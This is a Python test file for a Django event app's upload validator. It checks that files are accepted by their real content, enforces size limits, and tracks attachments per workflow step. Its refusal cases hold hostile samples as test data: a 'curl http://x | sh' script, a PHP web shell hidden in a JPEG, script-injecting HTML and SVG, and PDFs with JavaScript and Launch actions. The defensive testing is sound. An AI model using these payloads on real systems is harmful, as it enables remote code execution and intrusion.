"""Uploads are accepted by their content: a .jpg that is really a script is refused."""

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from linli.events import workflow
from linli.events.attachments import validate_upload
from linli.events.models import Attachment

from .conftest import at

JPEG = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    + bytes(range(256)) * 8
    + b"\xff\xd9"
)
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200)
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(200)
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n%%EOF\n"


def upload(name, content):
    return SimpleUploadedFile(name, content)


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [("现场.jpg", JPEG, "image/jpeg"), ("a.JPEG", JPEG, "image/jpeg"), ("b.png", PNG, "image/png"),
     ("c.webp", WEBP, "image/webp"), ("d.pdf", PDF, "application/pdf")],
)  # fmt: skip
def test_real_files_are_accepted(name, content, kind):
    checked = validate_upload(upload(name, content))
    assert checked.content_type == kind and checked.size == len(content) and len(checked.sha256) == 64


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("photo.jpg", b"#!/bin/sh\ncurl http://x | sh\n", "upload_mismatch"),  # a script named .jpg
        ("photo.jpg", b"<html><script>alert(1)</script></html>", "upload_mismatch"),
        ("photo.jpg", PNG, "upload_mismatch"),  # a PNG is not a JPEG
        ("photo.jpg", b"MZ\x90\x00" + bytes(100), "upload_mismatch"),  # an executable
        ("photo.jpg", JPEG[:200] + b"<?php system($_GET['c']); ?>" + JPEG[200:], "upload_polyglot"),
        ("doc.pdf", PDF + b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>", "upload_active_pdf"),
        ("doc.pdf", PDF + b"<< /Type /Action /S /Launch /F (cmd.exe) >>", "upload_active_pdf"),
        ("icon.svg", b"<svg onload=alert(1)>", "upload_type"),
        ("run.exe", b"MZ", "upload_type"),
        ("noext", JPEG, "upload_type"),
        ("empty.png", b"", "upload_empty"),
    ],
)
def test_files_are_refused_by_content(name, content, code):
    with pytest.raises(ValidationError) as info:
        validate_upload(upload(name, content))
    assert info.value.code == code
    assert "(" in info.value.messages[0]


def test_marker_split_across_chunks_is_found(monkeypatch):
    from linli.events import attachments

    monkeypatch.setattr(attachments, "CHUNK", 64)
    content = JPEG[:60] + b"<scr" + b"ipt>" + JPEG[60:]
    with pytest.raises(ValidationError):
        validate_upload(upload("x.jpg", content))


def test_size_limits(settings):
    settings.LINLI_EVENT_IMAGE_MAX_MB = 1
    big = JPEG + bytes(1024 * 1024)
    with pytest.raises(ValidationError) as info:
        validate_upload(upload("big.jpg", big))
    assert info.value.code == "upload_size"
    settings.LINLI_EVENT_PDF_MAX_MB = 2
    assert validate_upload(upload("big.pdf", PDF + bytes(1024 * 1024))).content_type == "application/pdf"


@pytest.mark.django_db
def test_attachments_travel_with_their_step(report, users, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    event = report("1402", when=at(2026, 11, 16, 9), attachments=[upload("楼道.jpg", JPEG)])
    workflow.accept(event, users["grid"])
    workflow.start(event, users["grid"])
    workflow.feed_back(
        event, users["grid"], note="已清理", attachments=[upload("after.png", PNG), upload("r.pdf", PDF)]
    )
    report_step, feedback = event.steps.get(action="report"), event.steps.get(action="feed_back")
    assert [a.original_name for a in report_step.attachments.all()] == ["楼道.jpg"]
    assert sorted(a.content_type for a in feedback.attachments.all()) == ["application/pdf", "image/png"]
    stored = report_step.attachments.get()
    assert stored.file.name.startswith("events/") and stored.file.name.endswith(".jpg")
    assert "楼道" not in stored.file.name  # random name on disk
    assert (tmp_path / stored.file.name).read_bytes() == JPEG
    assert stored.uploaded_by == users["grid"]


@pytest.mark.django_db
def test_a_bad_attachment_stops_the_transition(report, users, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    event = report("1402", when=at(2026, 11, 16, 9))
    with pytest.raises(ValidationError):
        workflow.accept(event, users["grid"], attachments=[upload("evil.jpg", b"#!/bin/sh\n")])
    event.refresh_from_db()
    assert event.status == "reported" and event.version == 1
    assert not Attachment.objects.exists()
